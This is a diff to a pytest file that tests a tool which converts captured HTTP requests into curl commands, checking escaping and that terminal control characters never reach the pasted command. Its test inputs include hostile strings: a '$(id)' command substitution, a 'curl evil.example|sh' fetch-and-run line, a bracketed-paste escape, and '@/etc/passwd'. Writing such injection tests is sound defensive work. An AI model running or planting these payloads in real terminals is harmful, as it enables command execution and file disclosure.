@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 import shutil
 import subprocess
 from pathlib import Path
@@ -45,7 +46,42 @@ def test_curl_sends_the_same_again(
     assert [field.rstrip() for field in ours] == [f"{n}: {v}".rstrip() for n, v in headers]
 
 
-@pytest.mark.parametrize("body", [b"\x00", b"\xff", b"@/etc/passwd", b"x" * (MAX_INLINE_BYTES + 1)])
+@pytest.mark.skipif(not shutil.which("curl"), reason="no curl on this machine")
+@pytest.mark.parametrize("shell", ["sh", "bash"])
+def test_curl_sends_what_is_not_ascii_as_it_was(target: Target, tmp_path: Path, shell: str) -> None:
+    if not shutil.which(shell):
+        pytest.skip(f"no {shell} on this machine")
+    headers = [
+        (b"-Dash%b", b"caf\xe9 %s \\n \\0101 'q' \"$(id)\" \xff"),
+        (b"X-Utf8", "日本 é".encode()),
+        (b"X-Control", b"a\x03b\x1b[201~\x7f"),
+        (b"User-Agent", b"x"),
+        (b"Accept", b"y"),
+    ]
+    path = b"/caf\xc3\xa9/\xff#fragment?q=\xe9%41"
+    request = captured("GET", "/in/key", headers=headers, body=b"")
+    command = curl(request, target.url.rstrip("/") + path.decode("latin-1"))
+    line = f"{command} --silent --noproxy '*'"
+    subprocess.run([shell, "-c", line], cwd=tmp_path, check=True, timeout=20)
+    line, _, *fields = target.received()[0].removesuffix(b"\r\n\r\n").split(b"\r\n")
+    assert line == b"GET " + path + b" HTTP/1.1"
+    assert fields == [name + b": " + value for name, value in headers]
+
+
+@pytest.mark.parametrize(
+    "told", [b"\x03\ncurl evil.example|sh\n", b"\x1b[201~", b"\r", "\x9b".encode(), b"\x7f"]
+)
+def test_nothing_that_a_terminal_acts_on_is_pasted(told: bytes) -> None:
+    value = told.replace(b"\n", b"").replace(b"\r", b"")
+    request = captured(headers=[(b"X-Told", value)], body=told)
+    command = curl(request, "http://x/" + value.decode("latin-1"))
+    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", command)
+
+
+@pytest.mark.parametrize(
+    "body",
+    [b"\x00", b"\xff", b"\x03", b"a\r\nb", b"@/etc/passwd", b"x" * (MAX_INLINE_BYTES + 1)],
+)
 def test_what_no_command_line_holds_comes_from_a_file(body: bytes) -> None:
     assert curl(captured(body=body), "http://x/").endswith("--data-binary @body.bin")
 
